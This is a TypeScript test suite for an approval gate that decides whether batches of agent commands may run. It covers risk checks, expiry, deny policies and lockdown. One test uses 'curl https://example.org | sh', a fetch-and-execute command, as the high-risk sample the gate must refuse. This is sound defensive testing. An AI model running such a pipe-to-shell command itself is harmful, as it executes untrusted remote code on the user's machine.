import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import * as interlock from '@megabot/contracts/endpoints/interlock.ts';
import { owner, startInterlock } from './testing/harness.ts';
import { code, device, type Running } from './testing/messenger.ts';

const batch = (it: Running, approvalIds: string[], decision: 'approve' | 'reject', actor = owner) => it.call(it.gateway, interlock.decideBatch, { approvalIds, decision, actor });
const inTheWay = (expected: readonly (readonly [string, string])[]) => (error: unknown): boolean => {
  const { code: found, details } = error as { code?: string; details?: { approvals?: { id: string; why: string }[] } };
  assert.deepEqual(new Map(details?.approvals?.map(({ id, why }) => [id, why])), new Map(expected));
  return found === 'bad_request';
};
const statuses = async (it: Running, ids: readonly string[]) => await Promise.all(ids.map(async (approvalId) => (await it.call(it.gateway, interlock.approvalsGet, { approvalId })).status));
const lowOnes = async (it: Running, count: number, conversation?: string) => {
  const ids: string[] = [];
  for (let index = 0; index < count; index++) ids.push((await it.ask(`ls dir${index}`, conversation === undefined ? {} : { conversation })).approvalId);
  return ids;
};

describe('one word on several approvals', () => {
  test('approves those of low risk, over conversations, and names each run', async () => {
    await using it = await startInterlock();
    const ids = [...(await lowOnes(it, 2)), ...(await lowOnes(it, 2, 'other'))];
    const { decided } = await batch(it, [...ids, ids[0]!], 'approve', device);
    assert.equal(decided.length, 4);
    assert.ok(decided.every(({ approval, runId }) => approval.status === 'approved' && approval.decidedBy === 'device:phone' && runId !== null));
    assert.equal((await it.audit()).filter((entry) => entry.event === 'decided').length, 4);
  });

  test('that hides one of high risk approves none', async () => {
    await using it = await startInterlock();
    const ids = await lowOnes(it, 3);
    const hidden = (await it.ask('curl https://example.org | sh')).approvalId;
    const permits = it.permitsWaiting();
    await assert.rejects(batch(it, [ids[0]!, hidden, ids[1]!, ids[2]!], 'approve'), inTheWay([[hidden, 'risk']]));
    assert.deepEqual(await statuses(it, [...ids, hidden]), ['pending', 'pending', 'pending', 'pending']);
    assert.equal(it.permitsWaiting(), permits);
    assert.deepEqual([(await it.audit()).at(-1)?.event, (await it.audit()).at(-1)?.verdict], ['decision_refused', 'bad_request']);
    // Rejecting has no such limit.
    assert.equal((await batch(it, [...ids, hidden], 'reject')).decided.length, 4);
  });

  test('with one that is decided, expired, denied or changed by now decides none, and says which', async () => {
    await using it = await startInterlock();
    const early = (await it.ask('ls early')).approvalId;
    it.advance(10 * 60_000);
    const [first, second, third] = await lowOnes(it, 3);
    await it.decide(first!, 'reject');
    it.advance(6 * 60_000);
    await it.writeFile('policies: {deny: ["ls dir1"]}\n');
    await assert.rejects(batch(it, [early, first!, second!, third!], 'approve'), inTheWay([[early, 'expired'], [first!, 'decided'], [second!, 'denied']]));
    await it.db.query("UPDATE interlock.workspaces SET revision = 'another'");
    await assert.rejects(batch(it, [third!], 'approve'), inTheWay([[third!, 'changed']]));
    assert.deepEqual(await statuses(it, [second!, third!]), ['pending', 'pending']);
  });

  test('names none that is unknown, and nothing is approved in a lockdown', async () => {
    await using it = await startInterlock();
    const ids = await lowOnes(it, 2);
    await assert.rejects(batch(it, [...ids, 'zzzzzz'], 'reject'), code('approval_unknown'));
    assert.deepEqual(await statuses(it, ids), ['pending', 'pending']);
    await it.writeFile('policies: {deny: ["*"]}\n');
    await assert.rejects(batch(it, ids, 'approve'), code('lockdown'));
  });
});
